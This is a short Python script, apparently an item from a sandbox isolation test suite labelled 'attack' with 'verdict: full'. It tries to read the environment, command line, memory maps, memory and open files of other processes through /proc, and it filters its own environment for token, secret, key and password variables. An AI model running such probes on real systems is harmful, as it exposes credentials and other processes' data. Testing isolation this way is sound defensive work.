"""
attack: reads environment, command line and memory of every process but itself
verdict: full
"""

from honest import attempt, class_activation_map, top_predictions

import os

def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]

attempt("list of processes", others)
for pid in (os.getppid(), 1, 2, os.getpid() - 1):
    for name in ("environ", "cmdline", "maps", "mem", "fd", "cwd"):
        path = f"/proc/{pid}/{name}"
        attempt(path, lambda: os.listdir(path) if name == "fd" else os.readlink(path) if name == "cwd" else open(path, "rb").read(64))
attempt("environment of ours", lambda: [k for k in os.environ if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS", "LAB"))])
